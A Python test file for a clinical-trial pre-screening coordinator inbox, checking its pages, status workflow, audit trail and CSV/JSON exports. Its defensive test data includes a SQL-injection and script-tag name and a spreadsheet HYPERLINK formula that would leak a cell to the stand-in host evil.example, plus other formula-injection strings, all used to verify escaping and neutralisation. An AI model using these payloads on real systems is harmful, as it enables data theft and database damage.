"""The coordinator inbox's pages and exports over real HTTP (a live server on SQLite and
PostgreSQL): a lead reads at a glance, in words, in the coordinator's time zone; questions and
updates show as such; exports have human headers, the history, and no live formulas."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from bot.coordinator.export import csv_safe
from bot.leads.service import submit_question
from tests.fixtures.inbox import csrf_of, login
from tests.fixtures.leads import eligible_answers, lead_kwargs

EVIL_NAME = "Robert'); DROP TABLE leads;-- <script>alert(1)</script>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SHANGHAI = ZoneInfo("Asia/Shanghai")


def text_of(html: str) -> str:
    """What a person reads: tags dropped, whitespace collapsed."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html)).replace(" :", ":")


def local(moment: datetime) -> str:
    return moment.astimezone(SHANGHAI).strftime("%Y-%m-%d %H:%M")


def test_the_list_reads_at_a_glance_newest_first(server, store, clock):
    older = store.upsert_lead("conv-old", **{**lead_kwargs(name="Older Lead", phone=None, email="older@example.com"),
                                             "language": "zh"})
    answers = eligible_answers(bendamustine_9_months="unsure", patient_age=7.5)
    newer = store.upsert_lead("conv-new", **lead_kwargs(answers, name="Newer Lead", time="weekday evenings"))
    clock.advance(hours=2)
    html = login(server).get(server.url + "/").text
    page = text_of(html)
    assert page.index("Newer Lead") < page.index("Older Lead")
    row_new = page[page.index("Needs review"):page.index("Older Lead")]
    for expected in ("7 years 6 months", "A parent or legal guardian", "English", "Phone: +86 138 0013 8000",
                     "weekday evenings", "New"):
        assert expected in row_new, expected
    assert "Likely eligible" in page and "Chinese (简体中文)" in page and "E-mail: older@example.com" in page
    # Every way to reach the person is in the list, not only the first: the phone and the e-mail.
    assert "E-mail: li.wei@example.com" in row_new
    received = store.get_lead(newer)["created_at"]
    assert local(received) in page and "2 hours ago" in page and "Asia/Shanghai" in page
    # The whole row is a link: every cell of a lead's row leads to its page.
    for lead_id in (newer, older):
        row = re.search(rf'<tr class="lead[^"]*" id="lead-{lead_id}">(.*?)</tr>', html, re.S).group(1)
        cells = re.findall(r"<td>(.*?)</td>", row, re.S)
        assert len(cells) == 7 and all(f'href="/leads/{lead_id}"' in c for c in cells)


def test_times_follow_the_configured_time_zone(server, store, settings):
    import dataclasses

    from bot.coordinator.app import create_app
    from tests.fixtures.leads import LiveServer

    lead_id = store.upsert_lead("conv-tz", **lead_kwargs())
    madrid = create_app(dataclasses.replace(settings, inbox_time_zone="Europe/Madrid"), store, name="inbox_madrid",
                        clock=server.clock)
    with LiveServer(madrid) as live:
        live.clock, live.secrets = server.clock, server.secrets
        page = text_of(login(live).get(f"{live.url}/leads/{lead_id}").text)
    created = store.get_lead(lead_id)["created_at"]
    assert created.astimezone(ZoneInfo("Europe/Madrid")).strftime("%Y-%m-%d %H:%M") in page
    assert "Europe/Madrid" in page


def test_the_lead_page_puts_the_summary_first_then_the_answers_in_words(server, store):
    answers = eligible_answers(bendamustine_9_months="unsure", active_infectious_disease="unsure")
    lead_id = store.upsert_lead("conv-page", **lead_kwargs(answers, wechat="liwei_88", time="after 6 pm"))
    html = login(server).get(f"{server.url}/leads/{lead_id}").text
    page = text_of(html)
    assert page.index("Summary") < page.index("Contact") < page.index("Answers, criterion by criterion")
    summary = page[page.index("Summary"):page.index("Contact")]
    for expected in ("Outcome Needs review", "Not sure E1 Received bendamustine treatment within the past 9 months",
                     "E16 Active or uncontrollable infectious diseases (HBV, HCV, HIV, syphilis)",
                     "Documents to request", "a list of all cancer medicines given in the last 9 months (E1)",
                     "recent hepatitis, HIV and syphilis test results (E16)"):
        assert expected in summary, expected
    answers_part = page[page.index("Answers, criterion by criterion"):]
    for expected in ("Age: 7 years", "Daily activity: Light activity only (ECOG 1)", "B-ALL diagnosis: Yes",
                     "Months after CAR-T: 3 months", "Who is answering: Parent or legal guardian",
                     "Bendamustine: Not sure", "Confirmed by the study doctor",
                     "Guardian consent: not asked: does not apply"):
        assert expected in answers_part, expected
    i7 = re.search(r'<tr class="verdict-pass" id="criterion-I7">(.*?)</tr>', html, re.S).group(1)
    assert text_of(i7).strip().endswith("Pass")  # a guardian answered: passed, not "does not apply"
    # E15 for a 7-year-old boy: neither question applied, so neither was asked.
    e15 = re.search(r'<tr class="verdict-not_applicable" id="criterion-E15">(.*?)</tr>', html, re.S).group(1)
    assert "Sex: not asked: does not apply" in text_of(e15)
    assert "Pregnancy or breastfeeding: not asked: does not apply" in text_of(e15)
    assert "Not asked: does not apply" in text_of(e15) and "Pass" not in text_of(e15)
    for raw in ("patient_age", "ecog", "7.0", "1.0", "'unsure'", "guardian_can_consent"):  # no slot names or raw values
        assert raw not in page, raw
    # Ways to reach the person: links, and a WeChat ID that is easy to copy without a script.
    assert '<a href="tel:+8613800138000">+86 138 0013 8000</a>' in html  # dialled as stored, read grouped
    assert '<a href="mailto:li.wei@example.com">li.wei@example.com</a>' in html
    assert re.search(r'<input id="wechat" class="copy" readonly value="liwei_88"', html)
    assert "user-select: all" in login(server).get(server.url + "/static/inbox.css").text
    assert "<script" not in html


def test_a_note_keeps_the_status_and_a_status_change_is_a_button(server, store):
    lead_id = store.upsert_lead("conv-note", **lead_kwargs())
    s = login(server)
    html = s.get(f"{server.url}/leads/{lead_id}").text
    note_form = re.search(r'<form[^>]*class="note-form">(.*?)</form>', html, re.S).group(1)
    assert '<input type="hidden" name="status" value="new">' in note_form and "<select" not in note_form
    status_form = re.search(r'<form[^>]*class="status-form">(.*?)</form>', html, re.S).group(1)
    assert re.findall(r'name="status" value="(\w+)"', status_form) == ["contacted"]
    token = csrf_of(html)
    s.post(f"{server.url}/leads/{lead_id}/status", data={"status": "new", "note": "Spoke to mum <b>hi</b>",
                                                          "csrf_token": token})
    assert store.get_lead(lead_id)["status"] == "new"
    page = s.get(f"{server.url}/leads/{lead_id}").text
    assert "Spoke to mum &lt;b&gt;hi&lt;/b&gt;" in page
    r = s.post(f"{server.url}/leads/{lead_id}/status", data={"status": "contacted", "csrf_token": token})
    assert store.get_lead(lead_id)["status"] == "contacted" and r.url.endswith("?saved=status")
    page = text_of(s.get(f"{server.url}/leads/{lead_id}").text)
    assert "New → Contacted" in page and "Mark screening scheduled" in page and "Mark as not enrolled" in page
    trail = [(e["actor"], e["action"], e["lead_id"]) for e in store.audit_log()]
    assert ("alice", "view", lead_id) in trail and ("alice", "status", lead_id) in trail
    assert ("alice", "note", lead_id) in trail


def test_a_final_status_is_confirmed_on_its_own_page_before_it_is_saved(server, store):
    lead_id = store.upsert_lead("conv-final", **lead_kwargs())
    store.set_status(lead_id, "contacted", None, "alice")
    s = login(server)
    html = s.get(f"{server.url}/leads/{lead_id}").text
    status_form = re.search(r'<form[^>]*class="status-form">(.*?)</form>', html, re.S).group(1)
    assert re.findall(r'name="status" value="(\w+)"', status_form) == ["screening_scheduled"]
    assert f'href="/leads/{lead_id}/final?status=not_enrolled"' in html
    # A final status posted straight away (an old page, a script) is not saved: it is asked about first.
    r = s.post(f"{server.url}/leads/{lead_id}/status", data={"status": "not_enrolled", "csrf_token": csrf_of(html)})
    assert r.url.endswith(f"/leads/{lead_id}/final?status=not_enrolled")
    assert store.get_lead(lead_id)["status"] == "contacted"
    asked = s.get(f"{server.url}/leads/{lead_id}/final?status=not_enrolled")
    assert "cannot be changed afterwards" in text_of(asked.text) and "No, go back to the lead" in asked.text
    form = re.search(r'<form[^>]*class="confirm-form">(.*?)</form>', asked.text, re.S).group(1)
    fields = dict(re.findall(r'name="(\w+)" value="([^"]*)"', form))
    assert fields["confirm"] == "yes" and fields["status"] == "not_enrolled"
    done = s.post(f"{server.url}/leads/{lead_id}/status", data={**fields, "note": "Family chose another trial"})
    assert done.url.endswith("?saved=status")
    lead = store.get_lead(lead_id)
    assert lead["status"] == "not_enrolled" and lead["history"][-1]["note"] == "Family chose another trial"
    # Nothing is final twice, and a step the workflow does not allow is refused.
    again = s.get(f"{server.url}/leads/{lead_id}/final?status=enrolled")
    assert again.url.endswith("?error=transition") and "is a final status" in text_of(again.text)

def test_an_updated_lead_says_so_with_what_changed_and_when(server, store):
    lead_id = store.upsert_lead("conv-upd", **lead_kwargs())
    store.upsert_lead("conv-upd", replace=True, **lead_kwargs(phone="+34 612 345 678"))
    s = login(server)
    listing = text_of(s.get(server.url + "/").text)
    assert "updated" in listing and "+34 612 345 678" in listing  # stored +34612345678, read grouped
    page = text_of(s.get(f"{server.url}/leads/{lead_id}").text)
    update = store.get_lead(lead_id)["updates"][0]
    assert f"Updated by the person {local(update['created_at'])}" in page and ": phone" in page
    assert "the person Updated by the person: phone" in page  # and in the history


def test_a_question_is_listed_and_shown_as_a_question(server, store, settings):
    store.upsert_lead("conv-lead", **lead_kwargs(name="Screening Person"))
    result = submit_question(store, None, "conv-asks", message="Is there a trial for adults over 40?",
                             contact={"name": "Wang Fang", "wechat": "wangfang_1"}, language="zh",
                             outcome="not_eligible")
    s = login(server)
    html = s.get(server.url + "/").text
    assert f'<tr class="lead kind-question" id="lead-{result.lead_id}">' in html
    assert "Question (not eligible)" in text_of(html) and "WeChat ID: wangfang_1" in text_of(html)
    page = text_of(s.get(f"{server.url}/leads/{result.lead_id}").text)
    assert "Question #" in page
    assert "Message from the person Is there a trial for adults over 40?" in page
    assert "Answers, criterion by criterion" not in page  # no screening answers to show


def test_sql_and_html_in_a_name_are_stored_literally_and_shown_escaped(server, store):
    lead_id = store.upsert_lead("conv-evil", **lead_kwargs(name=EVIL_NAME))
    assert store.get_lead(lead_id)["contact"]["name"] == EVIL_NAME
    s = login(server)
    for path in ("/", f"/leads/{lead_id}"):
        html = s.get(server.url + path).text
        assert "<script>alert(1)</script>" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert "Robert&#39;); DROP TABLE leads;--" in html
    assert store.count_leads() == 1


def _csv_rows(response) -> list:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_export_has_human_headers_answers_in_words_history_and_no_formulas(server, store):
    answers = eligible_answers(bendamustine_9_months="unsure")
    lead_id = store.upsert_lead("conv-csv", **lead_kwargs(answers, name=FORMULA_NAME, time="@SUM(1+1)",
                                                          email="=cmd@example.com"))
    store.set_status(lead_id, "new", "-called, no answer", "alice")
    store.set_status(lead_id, "contacted", "spoke to dad", "alice")
    submit_question(store, None, "conv-q", message="+1 can I call you?", contact={"phone": "13800138000"},
                    language="en")
    s = login(server)
    r = s.get(server.url + "/export.csv")
    assert r.status_code == 200
    assert r.headers["Content-Type"].startswith("text/csv")
    assert r.headers["Content-Disposition"].startswith("attachment;")
    rows = _csv_rows(r)
    assert len(rows) == 2
    question, row = rows
    assert list(row)[:6] == ["Lead", "Kind", "Received (Asia/Shanghai)", "Last updated (Asia/Shanghai)", "Status",
                             "Outcome"]
    assert row["Lead"] == str(lead_id) and row["Kind"] == "Pre-screening" and row["Status"] == "Contacted"
    assert row["Outcome"] == "Needs review" and row["Patient age"] == "7 years"
    assert row["Answered by"] == "A parent or legal guardian" and row["Language"] == "English"
    assert row["Name"] == "'" + FORMULA_NAME and row["E-mail"] == "'=cmd@example.com"
    # One way of writing every number, kept as text: a spreadsheet would make it 8.6138E+12.
    assert row["Phone"] == "'+8613800138000" == question["Phone"]
    assert row["Best time"] == "'@SUM(1+1)"
    assert row["I3 Age between 1 and 39 years old: answers"] == "Age: 7 years" and row["I3 result"] == "Pass"
    assert row["E1 result"] == "Not sure" and row["E15 result"] == "Not asked: does not apply"
    assert row["Documents to request"] == "E1: a list of all cancer medicines given in the last 9 months"
    history = row["History and notes"].splitlines()
    assert history[0].endswith("alice: Note — -called, no answer") and history[1].endswith(
        "alice: New → Contacted — spoke to dad")
    assert question["Kind"] == "Question" and question["Message"] == "'+1 can I call you?"
    for cell in (c for r_ in rows for c in r_.values()):
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), cell
    assert ("alice", "export", lead_id, "csv") in [
        (e["actor"], e["action"], e["lead_id"], e["detail"]) for e in store.audit_log()]


def test_json_export_has_the_history_and_neutralises_every_field(server, store):
    lead_id = store.upsert_lead("conv-json", **lead_kwargs(name=FORMULA_NAME, time="@SUM(1+1)",
                                                           email="+cmd@example.com"))
    store.set_status(lead_id, "new", "=1+1", "alice")
    s = login(server)
    r = s.get(server.url + "/export.json")
    assert r.status_code == 200 and r.headers["Content-Disposition"].startswith("attachment;")
    data = json.loads(r.content)
    assert data["trial_id"] == "gobroad-cik-ball-2024"
    lead = data["leads"][0]
    assert lead["id"] == lead_id and lead["kind"] == "screening"
    assert lead["contact"] == {"name": "'" + FORMULA_NAME, "phone": "'+8613800138000", "email": "'+cmd@example.com",
                               "wechat": None, "time": "'@SUM(1+1)"}
    assert [(h["kind"], h["note"], h["actor"]) for h in lead["history"]] == [("note", "'=1+1", "alice")]
    assert any(row["id"] == "I6" for row in lead["packet"])

    def strings(value):
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for v in value.values():
                yield from strings(v)
        elif isinstance(value, list):
            for v in value:
                yield from strings(v)

    assert not [v for v in strings(data) if v.lstrip(" ").startswith(("=", "+", "-", "@"))]
    assert ("alice", "export", lead_id, "json") in [
        (e["actor"], e["action"], e["lead_id"], e["detail"]) for e in store.audit_log()]


def test_empty_export_is_audited_too(server, store):
    s = login(server)
    assert s.get(server.url + "/export.json").json()["leads"] == []
    assert [e["action"] for e in store.audit_log()][0] == "export"


def test_funnel_chart_counts_only_conversations_that_started_the_screening(server, store):
    for n in range(3):
        store.record_screening_started(f"conv-secret-{n}")
    store.record_funnel("conv-secret-0", "finished")
    store.record_funnel("conv-secret-0", "likely_eligible")
    store.record_funnel("conv-hello-only", "finished")  # never started: not counted anywhere
    s = login(server)
    html = s.get(server.url + "/funnel").text
    assert "<svg" in html and "<rect" in html
    assert "Started the pre-screening" in html and "Contacted by coordinator" in html
    assert "conv-secret" not in html
    assert re.search(r"<td>Started the pre-screening</td><td>3</td>", html)
    assert re.search(r"<td>Finished pre-screening</td><td>1</td>", html)


def test_audit_page_lists_views(server, store):
    lead_id = store.upsert_lead("conv-a", **lead_kwargs())
    s = login(server)
    s.get(f"{server.url}/leads/{lead_id}")
    html = s.get(server.url + "/audit").text
    assert "view" in html and f"/leads/{lead_id}" in html


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("+8613800138000", "'+8613800138000"),
        ("+8613800138000+1", "'+8613800138000+1"),
        (" +8613800138000", "' +8613800138000"),
        ("+0123456789", "'+0123456789"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),
        ("Li Wei", "Li Wei"),
        ("", ""),
        (None, ""),
        (7, 7),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_words_for_ages_and_answers():
    from bot.coordinator.present import age_words, ago, answer_words

    assert [age_words(v) for v in (7.0, 1.0, 1.5, 0.75, 39 + 11 / 12, "unsure")] == [
        "7 years", "1 year", "1 year 6 months", "9 months", "39 years 11 months", "Not sure"]
    assert answer_words("ecog", 2.0) == "Up more than half the day (ECOG 2)"
    assert answer_words("sex", "female") == "Female" and answer_words("respondent", "other") == "Someone else"
    now = datetime(2026, 12, 1, 12, 0)
    assert [ago(now - timedelta(**d), now) for d in ({"seconds": 5}, {"minutes": 1}, {"hours": 2}, {"days": 3})] == [
        "just now", "1 minute ago", "2 hours ago", "3 days ago"]
